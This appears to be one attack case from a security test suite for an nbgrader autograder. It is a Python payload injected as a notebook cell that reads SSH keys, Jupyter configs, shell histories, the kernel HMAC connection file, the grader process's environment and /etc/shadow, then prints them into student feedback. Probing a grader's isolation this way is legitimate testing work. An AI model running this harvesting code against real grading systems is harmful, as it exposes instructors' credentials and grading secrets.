"""Reads (and prints into the notebook, i.e. into the student's feedback) what a grader should hide: nbgrader_config.py
files up the tree, the grader's home (~/.jupyter, ~/.ssh, shell history), the kernel connection file with its HMAC
key, the grader process's environment and command line, /etc/shadow.
"""

KIND = "read"
PLACEMENT = "extra_cell_first"
REST = "blank"
CODE = r'''import os as _atk_os


def _atk_roots():
    """Directories that may be (or contain) the course root: ancestors of the cwd, of the grader's cwd, of the
    course package, the home folder and a few usual places."""
    seeds = [_atk_os.getcwd()]
    for pid in (_atk_os.getppid(),):
        try:
            seeds.append(_atk_os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    try:
        import dropout_course
        seeds.append(_atk_os.path.dirname(_atk_os.path.abspath(dropout_course.__file__)))
    except Exception:
        pass
    for key, value in _atk_os.environ.items():
        if value.startswith("/") and _atk_os.path.isdir(value) and ("NBGRADER" in key or "COURSE" in key):
            seeds.append(value)
    seeds += [_atk_os.path.expanduser("~"), "/work", "/srv/nbgrader", "/srv", "/home", "/course", "/tmp"]
    out = []
    for seed in seeds:
        path = _atk_os.path.abspath(seed)
        while True:
            if path not in out:
                out.append(path)
            parent = _atk_os.path.dirname(path)
            if parent == path:
                break
            path = parent
    return out


def _atk_walk(top, want, seconds=10.0, max_depth=7):
    """Bounded os.walk under top: paths p for which want(p) holds."""
    import time
    end, found = time.time() + seconds, []
    top_depth = top.rstrip("/").count("/")
    for dirpath, dirnames, filenames in _atk_os.walk(top, onerror=lambda e: None):
        if time.time() > end:
            break
        if dirpath.count("/") - top_depth >= max_depth or dirpath.startswith(("/proc", "/sys", "/dev")):
            dirnames[:] = []
        dirnames[:] = [d for d in dirnames if d not in (".venv", "node_modules", "site-packages", "__pycache__")]
        for name in filenames:
            path = _atk_os.path.join(dirpath, name)
            try:
                if want(path):
                    found.append(path)
            except Exception:
                pass
    return found

import glob as _atk_glob

_atk_paths = []
for _atk_root in _atk_roots():
    _atk_paths += [_atk_os.path.join(_atk_root, "nbgrader_config.py"), _atk_os.path.join(_atk_root, ".env")]
_atk_home = _atk_os.path.expanduser("~")
for _atk_pattern in (".jupyter/*", ".ssh/*", ".bash_history", ".python_history", ".pgpass", ".netrc",
                     ".gitconfig", ".config/*", ".local/share/jupyter/runtime/*.json"):
    _atk_paths += _atk_glob.glob(_atk_os.path.join(_atk_home, _atk_pattern))
try:
    import ipykernel.connect
    _atk_paths.append(ipykernel.connect.get_connection_file())
except Exception:
    pass
_atk_ppid = _atk_os.getppid()
_atk_paths += [f"/proc/{_atk_ppid}/environ", f"/proc/{_atk_ppid}/cmdline", "/etc/shadow", "/etc/passwd"]
for _atk_path in dict.fromkeys(_atk_paths):
    try:
        if _atk_os.path.isfile(_atk_path):
            with open(_atk_path, "rb") as _atk_f:
                _atk_data = _atk_f.read(400)
            print("ATTACK read_home_secrets: READ", _atk_path, _atk_data[:160].replace(b"\0", b" "))
    except Exception as _atk_error:
        print("ATTACK read_home_secrets: denied", _atk_path, type(_atk_error).__name__)
print("ATTACK read_home_secrets: env", {k: v[:40] for k, v in _atk_os.environ.items()
                                        if any(w in k.upper() for w in ("TOKEN", "PASS", "KEY", "SECRET", "DB", "URL"))})
'''
